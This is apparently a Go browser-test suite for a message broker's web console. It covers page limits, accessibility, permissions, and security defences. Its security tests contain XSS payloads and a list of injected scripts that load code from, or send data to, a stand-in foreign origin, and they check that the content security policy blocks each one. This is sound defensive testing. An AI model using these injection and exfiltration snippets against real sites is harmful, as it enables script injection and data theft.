package browsertest

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"

	"github.com/tidegate/tidegate"
	"github.com/tidegate/tidegate/broker/server"
	"github.com/tidegate/tidegate/broker/settings"
	"github.com/tidegate/tidegate/broker/status"
	"github.com/tidegate/tidegate/internal/assert"
	"github.com/tidegate/tidegate/transport"
)

// pages are pages of the console, with the names that populate creates.
var pages = []struct{ name, fragment string }{
	{"overview", "#/overview"},
	{"topics", "#/topics"},
	{"topics-one", "#/topics/normal"},
	{"groups", "#/groups"},
	{"groups-one", "#/groups/g"},
	{"dead-letters", "#/dead-letters"},
	{"dead-letters-one", "#/dead-letters/g"},
	{"messages", "#/messages?topic=normal"},
	{"messages-part", "#/messages/normal/0/0"},
	{"trace", "#/trace?topic=normal"},
	{"parked", "#/parked"},
	{"parked-one", "#/parked/g"},
	{"limits", "#/limits"},
	{"address", "#/address?topic=normal"},
	{"clients", "#/clients"},
	{"audit", "#/audit"},
	{"help", "#/help"},
}

// The bounds of the specification.
const (
	maxRows     = 200    // of a page, ever
	maxFirst    = 95_000 // bytes of the first load: 45 000 for the console, and its first page of data
	maxTransfer = 95_000 // bytes of one page: 50 000 for the overview, 40 000 for a list; with headers, and modules that are loaded late
)

// Each page works on an empty broker and with 1, 100 and 10 000 topics. It keeps the content
// security policy and the bounds of the specification, has no error, and makes no request to
// another origin. Without access keys there is no login, and the page notes that each client may do
// everything.
func TestPages(t *testing.T) {
	for _, n := range []int{0, 1, 100, 10_000} {
		t.Run(fmt.Sprintf("%d topics", n), func(t *testing.T) {
			s := start(t, siteOptions{})
			s.populate(n)
			b := open(t, s.url)
			b.load("")
			// First: the console itself.
			if sent := b.transferred(); sent > maxFirst {
				t.Errorf("the first load transferred %d bytes, the limit is %d", sent, maxFirst)
			}
			for _, p := range pages {
				b.visit(p.fragment)
				b.is(p.name)
				b.clean()
				rows := value[int](b, `document.querySelectorAll('main tr, main li').length`)
				assert.That(t, rows <= maxRows, "%s has %d rows, the limit is %d", p.fragment, rows, maxRows)
				if sent := b.transferred(); sent > maxTransfer {
					t.Errorf("%s transferred %d bytes, the limit is %d", p.fragment, sent, maxTransfer)
				}
				says := value[string](b, `document.querySelector('[data-session=open]')?.title || ''`)
				assert.That(t, strings.Contains(says, "everyone on this machine may do everything"), "%s shows %q", p.fragment, says)
				b.shoot(fmt.Sprintf("%s-%d", p.name, n))
			}
			if requests := fmt.Sprint(b.sent()); strings.Contains(requests, "POST") {
				t.Errorf("the page logs in: %s", requests)
			}
		})
	}
}

// The page of a topic with lite topics lists them in parts, with their groups and consumers, and
// deletes one. Their names cannot run as scripts.
func TestLiteTopics(t *testing.T) {
	const evil = `<img src=x onerror="window.pwned=1">`
	s := start(t, siteOptions{})
	s.topic("sessions", settings.Topic{Type: settings.TopicLite})
	assert.Must(t, s.SyncLite(t.Context(), transport.LiteSync{
		LiteConsumer: transport.LiteConsumer{Group: "agents", Topic: "sessions", ID: evil}, Topics: []string{"reply-to-7"},
	}))
	s.send(&tidegate.Message{Topic: "sessions", LiteTopic: "reply-to-7", Body: []byte("x")})
	for i := range 60 {
		s.send(&tidegate.Message{Topic: "sessions", LiteTopic: fmt.Sprintf("session-%02d", i), Body: []byte("x")})
	}
	b := open(t, s.url)
	b.load("#/topics/sessions")
	b.is("topics-one")
	for _, want := range []string{evil, "reply-to-7", "agents", "session-48", "61"} {
		if text := b.text(); !strings.Contains(text, want) {
			t.Errorf("the page has no %q:\n%s", want, text)
		}
	}
	assert.That(t, !strings.Contains(b.text(), "session-49"), "the page has more than 50 lite topics")
	b.shoot("lite-topics")
	b.click("delete-lite", "session-07")
	b.wait(`document.querySelector('dialog[open]')`)
	b.click("confirm", "")
	b.wait(`!document.querySelector('dialog') && !document.querySelector('main').innerText.includes('session-07')`)
	b.visit("#/topics/sessions?lite=session-48")
	names := value[[]string](b, `[...document.querySelectorAll('[data-action=delete-lite]')].map((e) => e.dataset.subject)`)
	if len(names) != 11 || names[0] != "session-49" || names[10] != "session-59" {
		t.Errorf("the second part is %v", names)
	}
	page := assert.Value(s.LiteTopics("sessions", status.LiteTopicQuery{}))(t)
	assert.Equal(t, "lite topics", page.Total, 60)
	var pwned bool
	if b.eval(`!!window.pwned`, &pwned); pwned {
		t.Error("the ID of a consumer ran as a script")
	}
	b.clean()
}

// A dialog belongs to its page: another address cancels it. The end of the session removes it from
// the page; TestDialogSurvivesTheSession shows when it returns.
func TestDialogEndsWithItsPage(t *testing.T) {
	s, _ := guarded(t)
	b := open(t, s.url)
	b.load("")
	b.signIn("root")
	b.visit("#/topics/normal")
	b.click("send", "normal")
	b.wait(`document.querySelector('dialog[open] [name=body]')`)
	b.visit("#/groups/g")
	b.wait(`!document.querySelector('dialog')`)
	b.click("delete-group", "g")
	b.wait(`document.querySelector('dialog[open] [name=name]')`)
	b.eval(`history.back(); null`, nil)
	b.wait(`document.querySelector('main[data-page=topics-one][data-ready]') && !document.querySelector('dialog')`)
	b.click("send", "normal")
	b.wait(`document.querySelector('dialog[open] [name=body]')`)
	assert.Must(t, s.server.SetAccess(server.AccessConfig{Keys: roles().Keys[:1]}))
	b.wait(`document.querySelector('main[data-page=sign-in]') && !document.querySelector('dialog')`)
	assert.NoError(t, assert.Err(s.Group("g")), "a dialog that was cancelled deleted the group")
	b.clean()
}

// An action that fails before its dialog opens shows the error.
func TestActionsShowTheirErrors(t *testing.T) {
	var failing atomic.Bool
	s := start(t, siteOptions{wrap: func(h http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if failing.Load() && strings.HasPrefix(r.URL.Path, "/v1/") {
				http.Error(w, `{"detail":"the disk of the broker is full"}`, http.StatusServiceUnavailable)
				return
			}
			h.ServeHTTP(w, r)
		})
	}})
	s.populate(1)
	b := open(t, s.url)
	b.load("")
	for _, c := range []struct{ fragment, action string }{
		{"#/topics/normal", "change-topic"},
		{"#/topics/normal", "purge-topic"},
		{"#/groups/g", "change-group"},
		{"#/limits", "set-limits"},
	} {
		b.visit(c.fragment)
		failing.Store(true)
		b.click(c.action, "")
		b.wait(`document.querySelector('#notices [role=alert]')?.textContent.includes('the disk of the broker is full')`)
		failing.Store(false)
		b.eval(`document.getElementById('notices').textContent = ''; null`, nil)
	}
	b.clean()
}

// answer sets the response to one path of the API.
func answer(path, text string) siteOptions {
	return siteOptions{wrap: func(h http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if r.URL.Path != path {
				h.ServeHTTP(w, r)
				return
			}
			w.Header().Set("Content-Type", "application/json")
			_, _ = w.Write([]byte(text))
		})
	}}
}

// Free disk has a minimum: it is near if the free space is little above it.
func TestFreeDiskIsNearFromAbove(t *testing.T) {
	const gib = `073741824`
	for _, c := range []struct {
		value, state, meter string
	}{
		{"60129542144", "not reached", "0.02"}, // 56 GiB
		{"1181116006", "near", "0.91"},         // 1.1 GiB
	} {
		s := start(t, answer("/v1/throttle", `{"throttles":[],"not_reached":[{"limit":"free disk","unit":"bytes","value":`+c.value+`,"mark":1`+gib+`,"resume":1342177280,"on":false}],"limits":{"pressure":{"min_free_disk_bytes":1`+gib+`}},"revision":"1"}`))
		b := open(t, s.url)
		b.load("#/limits")
		state := value[string](b, `document.querySelector('main td .badge').textContent`)
		meter := value[string](b, `document.querySelector('main meter').value.toFixed(2)`)
		title := value[string](b, `document.querySelector('main meter').title`)
		if state != c.state || meter != c.meter {
			t.Errorf("%s bytes free of at least 1 GiB are %q with a bar of %s, want %q and %s", c.value, state, meter, c.state, c.meter)
		}
		if strings.Contains(title, gib[1:]) || !strings.Contains(title, "GiB") {
			t.Errorf("the title of the bar is %q, want units", title)
		}
		if text := b.text(); !strings.Contains(text, "1073741824 (1\u202fGiB)") {
			t.Errorf("the limits of the broker have no unit:\n%s", text)
		}
		b.clean()
	}
}

// The navigation of each key has pages that work for it: the broker rejects none of their requests.
func TestNavigationOfEachKey(t *testing.T) {
	s, _ := guarded(t)
	for _, k := range roles().Keys {
		b := open(t, s.url)
		b.load("")
		b.signIn(k.Name)
		links := value[[]string](b, `[...document.querySelectorAll('#bar nav a')].map((a) => a.getAttribute('href'))`)
		assert.That(t, len(links) >= 5, "%s has only the pages %q", k.Name, links)
		for _, link := range links {
			b.visit(link)
			fault := value[string](b, `document.querySelector('main [role=alert]')?.textContent || ''`)
			assert.That(t, fault == "", "%s: the page %s shows %q", k.Name, link, fault)
		}
		b.clean()
		b.end()
	}
}

// A key that may observe sees names, counts and reasons. Bodies, keys and properties need the
// permission to receive. The page names this permission, and does not request them.
func TestViewerSeesNoPayload(t *testing.T) {
	const secret, reason = "12345678901234567890.10", "no such account"
	s, letter := guarded(t)
	for key, reads := range map[string]bool{"monitor": false, "owner": false, "admin": false, "team": true, "root": true} {
		b := open(t, s.url)
		b.load("")
		b.signIn(key)
		for _, fragment := range []string{"#/dead-letters/g/" + letter, "#/messages?topic=normal", "#/messages/normal/0/0", "#/messages/normal/1/0", "#/messages/normal/2/0", "#/messages/normal/3/0"} {
			b.visit(fragment)
		}
		requests := strings.Join(b.sent(), "\n")
		if asks := strings.Contains(requests, "text=true"); asks != reads {
			t.Errorf("%s asks for bodies: %t, want %t: %s", key, asks, reads, requests)
		}
		b.visit("#/dead-letters/g/" + letter)
		text := value[string](b, `document.querySelector('main').textContent`)
		assert.That(t, strings.Contains(text, reason), "%s does not see the reason: %.600s", key, text)
		for _, part := range []string{secret, "key-", "eu-central"} {
			if shown := strings.Contains(text, part); shown != reads {
				t.Errorf("%s sees %q: %t, want %t: %.600s", key, part, shown, reads, text)
			}
		}
		if hint := strings.Contains(text, "need the permission to receive"); hint == reads {
			t.Errorf("%s sees the hint about the permission: %t", key, hint)
		}
		b.clean()
		b.end()
	}
}

// The picture of the README shows a group with messages in each state, and stays small.
func TestPictureOfTheReadme(t *testing.T) {
	s := start(t, siteOptions{})
	s.topic("orders", settings.Topic{Queues: 1})
	s.group("billing", settings.Group{})
	s.bury("billing", "orders", 41, func(int) string { return "no such account" }, func(i int) *tidegate.Message {
		return &tidegate.Message{Topic: "orders", Body: fmt.Appendf(nil, `{"order":%d}`, i)}
	})
	msgs := make([]*tidegate.Message, 1604)
	for i := range msgs {
		msgs[i] = &tidegate.Message{Topic: "orders", Body: fmt.Appendf(nil, `{"order":%d}`, i)}
	}
	s.send(msgs...)
	for i, d := range s.take("billing", "orders", 400) {
		var err error
		switch {
		case i < 318:
			_, err = s.Settle(context.Background(), d, transport.Verdict{Kind: transport.Retry, Delay: transport.BySchedule, Reason: "connection refused"})
		case i < 336:
			err = s.Ack(context.Background(), []*tidegate.Delivery{d})[0]
		}
		assert.Must(t, err)
	}
	b := open(t, s.url)
	b.size(1280, 720)
	b.load("#/groups/billing")
	b.shoot("readme")
	if *screenshots == "" {
		return
	}
	info := assert.Value(os.Stat(filepath.Join(*screenshots, "readme.png")))(t)
	if info.Size() > 150_000 || time.Since(info.ModTime()) > time.Minute {
		t.Errorf("the picture has %d bytes, of %v; the limit is 150 000", info.Size(), info.ModTime())
	}
}

func navigate(url string) chromedp.Action[chromedp.Void] { return chromedp.Navigate(url) }

// interactive are the elements that a mouse can use, which a keyboard must reach.
const interactive = `[...document.querySelectorAll('a[href], button, input, select, textarea, summary')].filter((e) => !e.disabled && e.checkVisibility() && e.tabIndex >= 0 && !e.closest('[inert]'))`

// outlined reports the faults of the focus mark.
const outlined = `((e) => { const s = getComputedStyle(e); return s.outlineStyle !== 'none' && parseFloat(s.outlineWidth) >= 1 || s.boxShadow !== 'none'; })(document.activeElement)`

// Every control of every page is reached with the Tab key, in its order in the page, and shows that
// it has the focus.
func TestKeyboard(t *testing.T) {
	s := start(t, siteOptions{})
	s.populate(1)
	b := open(t, s.url)
	b.load("")
	b.click("pause", "") // an update could replace an element between two keys
	for _, p := range pages {
		b.visit(p.fragment)
		b.eval(`document.activeElement.blur(); scrollTo(0, 0); window.reached = new Set(); null`, nil)
		missing := interactive + `.filter((e) => !window.reached.has(e) && e.type !== 'radio').map((e) => e.outerHTML)`
		n := value[int](b, interactive+`.length`)
		missed := []string{""}
		// Once around, or twice: a page can move the focus to its heading after the first keys.
		for k := 0; k < 2*n+4 && (k < n+2 || len(missed) > 0); k++ {
			b.run(chromedp.KeyEvent(kb.Tab))
			bad := value[string](b, `window.reached.add(document.activeElement), document.activeElement === document.body || `+outlined+` ? '' : document.activeElement.outerHTML`)
			assert.That(t, bad == "", "%s: the focus is not visible on %.200s", p.fragment, bad)
			if k >= n+1 {
				b.eval(missing, &missed)
			}
		}
		for _, m := range missed {
			t.Errorf("%s: the keyboard does not reach %.200s", p.fragment, m)
		}
	}
	// Enter on a link opens its page.
	b.visit("#/topics")
	b.eval(`document.querySelector('main a[href="#/topics/normal"]').focus(); null`, nil)
	b.run(chromedp.KeyEvent(kb.Enter))
	b.wait(`document.querySelector('main[data-page=topics-one][data-ready]')`)
}

// poor lists the texts whose contrast is below that of WCAG 2.2 AA: 4.5, or 3 for large text.
const poor = `(() => {
  const parse = (c) => { const m = c.match(/[\d.]+/g).map(Number); return c.startsWith('color(srgb') ? [m[0] * 255, m[1] * 255, m[2] * 255, m[3] ?? 1] : [m[0], m[1], m[2], m[3] ?? 1]; };
  const over = (a, b) => [0, 1, 2].map((i) => a[i] * a[3] + b[i] * (1 - a[3]));
  const light = (c) => { const [r, g, b] = c.map((v) => { v /= 255; return v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4; }); return 0.2126 * r + 0.7152 * g + 0.0722 * b; };
  const canvas = matchMedia('(prefers-color-scheme: dark)').matches ? [18, 18, 18] : [255, 255, 255];
  const back = (e) => { const chain = []; for (; e; e = e.parentElement) chain.push(parse(getComputedStyle(e).backgroundColor)); return chain.reverse().reduce((sum, c) => over(c, sum), canvas); };
  const out = [];
  const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  for (let n = walk.nextNode(); n; n = walk.nextNode()) {
    const e = n.parentElement;
    if (!n.data.trim() || !e.checkVisibility({opacityProperty: true, visibilityProperty: true}) || e.closest('noscript, script, .skip, svg, option') || e.closest('[disabled]')) continue;
    const s = getComputedStyle(e), b = back(e), f = over(parse(s.color), b);
    const [x, y] = [light(f), light(b)].sort((p, q) => q - p);
    const ratio = (x + 0.05) / (y + 0.05), size = parseFloat(s.fontSize);
    if (ratio < (size >= 24 || size >= 18.66 && s.fontWeight >= 700 ? 3 : 4.5)) out.push(ratio.toFixed(2) + ' ' + n.data.trim().slice(0, 60) + ' (' + e.tagName + '.' + e.className + ')');
  }
  return out;
})()`

// Text can be read in light and dark, and no page is wider than its window, in both languages.
func TestContrastAndWidth(t *testing.T) {
	s := start(t, siteOptions{})
	s.populate(100)
	b := open(t, s.url)
	b.load("")
	for _, v := range []struct {
		name, language string
		dark           bool
		widths         []int64
	}{
		{"light", "en", false, []int64{320, 1280, 2560}},
		{"dark", "en", true, []int64{320, 1280, 2560}},
		{"chinese", "zh", false, []int64{320, 1280}},
	} {
		b.dark(v.dark)
		b.speak(v.language)
		for _, width := range v.widths {
			b.size(width, 900)
			for _, p := range pages {
				b.visit(p.fragment)
				found := value[[]string](b, poor)
				for _, f := range found {
					t.Errorf("%s, %s, %d px: contrast %s", p.fragment, v.name, width, f)
				}
				wide := value[int64](b, `document.documentElement.scrollWidth`)
				if wide > width {
					t.Errorf("%s, %s: the page is %d px wide in a window of %d px", p.fragment, v.name, wide, width)
				}
				b.shoot(fmt.Sprintf("%s-%d-%s", p.name, width, v.name))
			}
		}
	}
}

// speak chooses the language.
func (b *tab) speak(code string) {
	b.t.Helper()
	b.eval(fmt.Sprintf(`(() => { const e = [...document.querySelectorAll('#bar select')].find((e) => e.value === 'en' || e.value === 'zh'); e.value = %q; e.dispatchEvent(new Event('change')); })()`, code), nil)
	b.wait(fmt.Sprintf(`document.documentElement.lang.startsWith(%q)`, code))
}

// The navigation is one line in a window of 1 280 pixels, with a vertical scroll bar of 15 pixels
// and the button of a session beside it.
func TestNavigationIsOneLine(t *testing.T) {
	s, _ := guarded(t)
	b := open(t, s.url)
	b.size(1265, 900)
	b.load("")
	b.signIn("root")
	for _, language := range []string{"en", "zh"} {
		b.speak(language)
		b.ready()
		var lines, links, spare int
		b.eval(`document.querySelectorAll('#bar nav a').length`, &links)
		b.eval(`new Set([...document.querySelectorAll('#bar nav a')].map((e) => e.offsetTop)).size`, &lines)
		b.eval(`Math.round(document.querySelector('#bar nav').getBoundingClientRect().right - [...document.querySelectorAll('#bar nav a')].at(-1).getBoundingClientRect().right)`, &spare)
		assert.That(t, lines == 1 && links >= 8, "%s: %d links in %d lines", language, links, lines)
		beside := value[bool](b, `document.querySelector('#bar .status').getBoundingClientRect().top < document.querySelector('#bar nav').getBoundingClientRect().bottom`)
		assert.That(t, beside, "%s: the status is below the navigation", language)
		t.Logf("%s: %d pixels are left", language, spare)
	}
}

// A stranger is another origin of this machine, with pages of its own. It counts its requests.
type stranger struct {
	url string

	mu    sync.Mutex
	pages map[string]string // guarded by mu
	seen  []string          // guarded by mu: method and path of each request
}

func startStranger(t *testing.T) *stranger {
	t.Helper()
	lis := assert.Value((&net.ListenConfig{}).Listen(t.Context(), "tcp", "127.0.0.1:0"))(t)
	s := &stranger{url: "http://" + lis.Addr().String(), pages: map[string]string{}}
	web := &http.Server{ReadHeaderTimeout: time.Minute, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		defer s.mu.Unlock()
		s.seen = append(s.seen, r.Method+" "+r.URL.Path)
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Content-Type", "text/html")
		if strings.HasSuffix(r.URL.Path, ".js") {
			w.Header().Set("Content-Type", "text/javascript")
			fmt.Fprint(w, "window.pwned = true")
			return
		}
		fmt.Fprint(w, "<!doctype html><title>stranger</title>"+s.pages[r.URL.Path])
	})}
	go web.Serve(lis) // it ends with Close
	t.Cleanup(func() { web.Close() })
	return s
}

func (s *stranger) page(path, html string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.pages[path] = html
}

func (s *stranger) requests() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return slices.Clone(s.seen)
}

// attempts are actions of an injected script. One directive of the policy stops each of them.
var attempts = []struct{ directive, script string }{
	{"script-src-elem", `import(STRANGER + '/x.js').catch(() => {})`},
	{"style-src-attr", `document.body.setAttribute('style', 'opacity: 0.5')`},
	{"img-src", `new Image().src = STRANGER + '/x.png'`},
	{"connect-src", `fetch(STRANGER + '/stolen').catch(() => {})`},
	{"connect-src", `navigator.sendBeacon(STRANGER + '/stolen', 'x')`},
	{"form-action", `{ const f = document.createElement('form'); f.action = STRANGER + '/form'; f.method = 'post'; document.body.append(f); f.submit(); }`},
	{"base-uri", `{ const b = document.createElement('base'); b.href = STRANGER; document.head.append(b); }`},
	{"media-src", `new Audio(STRANGER + '/x.mp3').load()`},
	{"frame-src", `{ const f = document.createElement('iframe'); f.src = STRANGER + '/'; document.body.append(f); }`},
	{"style-src-elem", `{ const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = STRANGER + '/x.css'; document.head.append(l); }`},
	{"require-trusted-types-for", `try { document.createElement('p').innerHTML = '<img src=x onerror="window.pwned = true">' } catch {}`},
	{"require-trusted-types-for", `try { document.createElement('script').text = 'window.pwned = true' } catch {}`},
	{"trusted-types", `try { trustedTypes.createPolicy('mine', {createHTML: (x) => x}) } catch {}`},
}

// A script that is injected nevertheless can neither load code, nor send data to another origin,
// nor turn text into markup.
func TestPolicyStopsInjectedScripts(t *testing.T) {
	s, other := start(t, siteOptions{}), startStranger(t)
	b := open(t, s.url)
	b.load("")
	for _, a := range attempts {
		b.eval(`window.violations = []; null`, nil)
		b.run(chromedp.Evaluate[chromedp.Void](strings.ReplaceAll(a.script, "STRANGER", fmt.Sprintf("%q", other.url)) + `; undefined`))
		if !b.becomes(fmt.Sprintf(`window.violations.some((v) => v.startsWith(%q))`, a.directive), 3*time.Second) {
			got := value[[]string](b, `window.violations`)
			t.Errorf("%s: violations %q, want one of %s", a.script, got, a.directive)
		}
	}
	base := value[string](b, `document.baseURI`)
	var pwned bool
	b.eval(`!!window.pwned`, &pwned)
	if got := other.requests(); len(got) > 0 || pwned || !strings.HasPrefix(base, s.url) {
		t.Errorf("the other origin got %q; code ran: %t; the base is %s", got, pwned, base)
	}
}

// A page of another origin cannot show the console in a frame, where it could steal clicks.
func TestConsoleIsNotFramed(t *testing.T) {
	var mu sync.Mutex
	scripts := 0
	s := start(t, siteOptions{wrap: func(h http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if strings.HasSuffix(r.URL.Path, "/main.js") {
				mu.Lock()
				scripts++
				mu.Unlock()
			}
			h.ServeHTTP(w, r)
		})
	}})
	loaded := func() int {
		mu.Lock()
		defer mu.Unlock()
		return scripts
	}
	other := startStranger(t)
	other.page("/", fmt.Sprintf(`<iframe src="%s/console/" onload="document.title = 'framed'"></iframe>`, s.url))
	b := open(t, "")
	b.run(chromedp.Navigate(other.url + "/"))
	b.wait(`document.title === 'framed'`) // the frame has its error page
	assert.Equal(t, "a frame of another origin loaded the console", loaded(), 0)
	b.run(chromedp.Navigate(s.url + "/console/"))
	b.ready()
	assert.Equal(t, "without a frame the script was loaded times", loaded(), 1)
}
